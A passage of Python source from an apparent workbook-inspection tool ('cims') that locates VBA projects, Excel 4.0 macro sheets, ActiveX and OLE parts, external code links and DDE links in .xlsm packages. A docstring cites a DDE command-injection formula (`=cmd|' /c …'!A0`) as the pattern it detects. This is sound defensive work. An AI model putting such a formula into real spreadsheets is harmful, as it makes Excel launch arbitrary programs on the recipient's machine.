        if el.get("localSheetId") is not None:
            el.getparent().remove(el)
        else:
            el.text = fixes[name]


def _show_sheet(pkg, title: str) -> None:
    from .package import SML_NS

    book = pkg.xml("xl/workbook.xml", edit=True)
    for el in book.iter(f"{{{SML_NS}}}sheet"):
        if el.get("name") == title and "state" in el.attrib:
            del el.attrib["state"]


# -- code parts, found the way Excel finds them -------------------------------------------
#
# Excel and LibreOffice do not look for the VBA project at a fixed name: they follow the
# package's relationships (ECMA-376 Part 2, OPC §9.3) from the workbook part to the part
# of type .../vbaProject, whatever it is called, and part names compare without regard
# to ASCII case (§9.1.1.1). So every part that can hold code is found by relationship
# type, by content type ([Content_Types].xml, §10.1.2) and, for a VBA project, by what
# the part is (an OLE storage holding a VBA project, [MS-OVBA] §2.2): one cims cannot
# account for is named, whichever way it hides.

REL_BASE = "http://schemas.microsoft.com/office/2006/relationships/"
VBA_REL = REL_BASE + "vbaProject"
VBA_CT = "application/vnd.ms-office.vbaproject"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

# the last segment of a relationship type (lower case) -> what the part can run
_CODE_RELS = {
    "xlmacrosheet": "an Excel 4.0 macro sheet",
    "xlintlmacrosheet": "an Excel 4.0 macro sheet",
    "dialogsheet": "an Excel 5.0 dialog sheet",
    "vbaprojectsignature": "a VBA project signature",
    "vbaprojectsignatureagile": "a VBA project signature",
    "vbaprojectsignaturev3": "a VBA project signature",
    "control": "an ActiveX control",
    "activexcontrolbinary": "an ActiveX control",
    "oleobject": "an embedded OLE object (it can start a program when opened)",
}
# external relationships (TargetMode="External") that fetch code: besides the above
_EXTERNAL_CODE_RELS = {
    "vbaproject": "a VBA project",
    "package": "an embedded document that can hold macros",
    "attachedtemplate": "an attached template (it can hold macros)",
    "oleobject": "an OLE object link (it can start a program when opened)",
    # not code, but reached over the network when Excel recalculates (a \\\\server share
    # gets the Windows sign-in): `formula_findings` names the formulas that use it
    "externallinkpath": "a link to another workbook (Excel reads it when it recalculates)",
    "xlexternallinkpath/xlpathmissing": "a link to another workbook (Excel reads it when it recalculates)",
}
_CODE_TYPES = {
    "application/vnd.ms-excel.macrosheet+xml": "an Excel 4.0 macro sheet",
    "application/vnd.ms-excel.intlmacrosheet+xml": "an Excel 4.0 macro sheet",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml": "an Excel 5.0 dialog sheet",
    "application/vnd.ms-office.vbaprojectsignature": "a VBA project signature",
    "application/vnd.ms-office.vbaprojectsignatureagile": "a VBA project signature",
    "application/vnd.ms-office.vbaprojectsignaturev3": "a VBA project signature",
    "application/vnd.ms-office.activex+xml": "an ActiveX control",
    "application/vnd.ms-office.activex": "an ActiveX control",
    "application/vnd.openxmlformats-officedocument.oleobject": "an embedded OLE object (it can start a program when opened)",
}
_CODE_FOLDERS = ("xl/macrosheets/", "xl/dialogsheets/", "xl/activex/")


@dataclass
class PackageCode:
    """Where the code of a package is: the VBA project the workbook's relationship points
    to (`project`, the zip entry's name), and what cims cannot account for."""
    workbook: str | None = None
    project: str | None = None
    vba_rels: list[tuple[str, str, str]] = None     # (source part, relationship id, target entry)
    vba_parts: set[str] = None                      # every entry that is or says it is a VBA project
    findings: list[Finding] = None


def _ct_of(name: str, defaults: dict[str, str], overrides: dict[str, str]) -> str:
    ct = overrides.get("/" + name.casefold())
    if ct is None:
        ct = defaults.get(name.rsplit(".", 1)[-1].casefold() if "." in name.rsplit("/", 1)[-1] else "", "")
    return ct.casefold()


def _is_vba_storage(data: bytes) -> bool:
    """An OLE compound file holding a VBA project (a `VBA/dir` stream, [MS-OVBA] §2.2)."""
    if not data.startswith(OLE_MAGIC):
        return False
    import olefile

    try:
        with olefile.OleFileIO(data) as ole:
            return any(len(p) >= 2 and p[-1].casefold() == "dir" and p[-2].casefold() == "vba"
                       for p in ole.listdir(streams=True))
    except Exception:     # a damaged storage: not one Excel would load as a project either
        return False


def package_code(data: bytes) -> PackageCode:
    """The code parts of the package in `data` (a .xlsm's bytes), see above."""
    import io
    import posixpath
    import zipfile

    from lxml import etree

    from .package import CT_NS, PKG_REL_NS, REL_OFFICE_DOCUMENT, rels_name

    out = PackageCode(vba_rels=[], vba_parts=set(), findings=[])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        all_names = [n for n in z.namelist() if not n.endswith("/")]
        names = list(dict.fromkeys(all_names))
        entries = {}
        for n in all_names:          # OPC part names compare without ASCII case
            key = n.casefold()
            if key in entries and entries[key] != n:
                out.findings.append(Finding(f"two parts named {entries[key]} and {n} (a package holds one; "
                                            "which one Excel reads is not certain)"))
            elif key in entries:
                out.findings.append(Finding(f"two zip entries named {n} (a package holds one; which one "
                                            "Excel reads is not certain)", restorable=False))
            entries[key] = n         # the last entry of a name, as zipfile and LibreOffice read it
        read = lambda n: z.read(n)   # noqa: E731

        def xml(n):
            try:
                return etree.fromstring(read(n), etree.XMLParser(resolve_entities=False, no_network=True))
            except etree.XMLSyntaxError:
                return None

        defaults, overrides = {}, {}
        ct_entry = entries.get("[content_types].xml")
        root = xml(ct_entry) if ct_entry else None
        for el in (root if root is not None else []):
            if el.tag == f"{{{CT_NS}}}Default":
                defaults[(el.get("Extension") or "").casefold()] = el.get("ContentType") or ""
            elif el.tag == f"{{{CT_NS}}}Override":
                overrides[(el.get("PartName") or "").casefold()] = el.get("ContentType") or ""

        def rels_of(part: str) -> list[tuple[str, str, str]]:
            """(id, type, target entry name or the written target) of a part's internal relationships."""
            rn = entries.get(rels_name(part).casefold())
            root = xml(rn) if rn else None
            found = []
            for el in (root if root is not None else []):
                if el.tag != f"{{{PKG_REL_NS}}}Relationship":
                    continue
                if el.get("TargetMode") == "External":
                    external.append((part, el.get("Type") or "", el.get("Target") or ""))
                    continue
                target = el.get("Target") or ""
                name = (target.lstrip("/") if target.startswith("/") else
                        posixpath.normpath(posixpath.join(posixpath.dirname(part), target)).lstrip("/"))
                found.append((el.get("Id") or "", el.get("Type") or "", entries.get(name.casefold(), name)))
            return found

        seen, todo, reached, external = {""}, [""], {}, []
        while todo:                  # every part the relationships reach, from the package down
            part = todo.pop()
            for rid, rtype, target in rels_of(part):
                kind = rtype.rsplit("/", 1)[-1].casefold()
                reached.setdefault(target, set()).add(kind)
                if rtype == REL_OFFICE_DOCUMENT and part == "":
                    out.workbook = target
                if kind == "vbaproject":
                    out.vba_rels.append((part, rid, target))
                if target in entries.values() and target not in seen:
                    seen.add(target)
                    todo.append(target)

        labels: dict[str, str] = {}
        for n in names:
            kinds = reached.get(n, set())
            ct = _ct_of(n, defaults, overrides)
            # A part named a VBA project by its own Override, or by a Default for its
            # extension when it also is one: cims's own workbook declares .bin a VBA
            # project by Default, and a printer-settings part (DEVMODE bytes) an edit
            # adds beside it is no project Excel could load.
            named = ct == VBA_CT and ("/" + n.casefold() in overrides or _is_vba_storage(read(n)))
            if "vbaproject" in kinds or named or (n.casefold().endswith(".bin") and _is_vba_storage(read(n))):
                out.vba_parts.add(n)
                continue
            label = next((_CODE_RELS[k] for k in sorted(kinds) if k in _CODE_RELS), None) \
                or _CODE_TYPES.get(ct) \
                or next((lab for f, lab in zip(_CODE_FOLDERS, ("an Excel 4.0 macro sheet", "an Excel 5.0 "
                         "dialog sheet", "an ActiveX control")) if n.casefold().startswith(f)), None)
            if label is None and "package" in kinds and ("macroenabled" in ct or n.casefold().endswith(
                    ("m", ".xlsb", ".bin"))):
                label = "an embedded document that can hold macros"
            if label is not None:
                labels[n] = label
            if "extensibility" in kinds:        # the ribbon (customUI, customUI14)
                out.findings += _ribbon_findings(n, xml(n))
            if "externallink" in kinds:
                out.findings += _external_link_findings(n, xml(n))
        for n, label in sorted(labels.items()):
            out.findings.append(Finding(f"{label} ({n}): cims writes none", restorable=False))
        for part, rtype, target in external:    # code fetched from outside the package
            kind = rtype.rsplit("/", 1)[-1].casefold()
            label = _EXTERNAL_CODE_RELS.get(kind) or _CODE_RELS.get(kind)
            if label is not None:
                out.findings.append(Finding(f"{label}, linked from outside the workbook ({part or 'the package'} "
                                            f"to {_shown(target)}): cims writes none", restorable=False))

    wb_rels = [r for r in out.vba_rels if r[0] == out.workbook]
    for source, _rid, target in out.vba_rels:
        if source != out.workbook:
            out.findings.append(Finding(f"a VBA project relationship from {source or 'the package'} to {target} "
                                        "(cims writes one, from the workbook)"))
    if len(wb_rels) > 1:
        out.findings.append(Finding("the workbook points to more than one VBA project: "
                                    + ", ".join(t for _s, _r, t in wb_rels)))
    if wb_rels:
        out.project = wb_rels[0][2]
        if out.project.casefold() != VBA_PART.casefold():
            out.findings.append(Finding(f"the workbook's VBA project is at {out.project}, not at {VBA_PART} "
                                        "where cims writes it"))
    for n in sorted(out.vba_parts - {out.project}):
        out.findings.append(Finding(f"a VBA project at {n} that cims cannot account for (the workbook "
                                    + ("points to another" if out.project else "does not point to it") + ")"))
    return out


_CALLBACK = re.compile(r"^(on[A-Z]\w*|get[A-Z]\w*|loadImage)$")


def _ribbon_findings(name: str, root) -> list[Finding]:
    """A ribbon callback naming a macro in another workbook ('C:\\x\\y.xlsm'!Macro): Excel
    opens that workbook and runs it; cims's ribbon only calls its own VBA."""
    if root is None:
        return []
    found = []
    for el in root.iter():
        for attr, value in el.attrib.items():
            if _CALLBACK.match(attr.split("}")[-1]) and "!" in value:
                found.append(Finding(f"the ribbon ({name}) calls {_shown(value)} in another workbook",
                                     restorable=False))
    return found


def _external_link_findings(name: str, root) -> list[Finding]:
    """A DDE or OLE link (`=cmd|' /c …'!A0`): Excel starts the program it names."""
    if root is None:
        return []
    found = []
    for el in root.iter():
        tag = el.tag.split("}")[-1] if isinstance(el.tag, str) else ""
        if tag in ("ddeLink", "oleLink"):
            what = el.get("ddeService") or el.get("progId") or "?"
            found.append(Finding(f"a {'DDE' if tag == 'ddeLink' else 'OLE'} link ({name}) to {_shown(what)}: Excel "
                                 "starts that program; cims writes none", restorable=False))
    return found
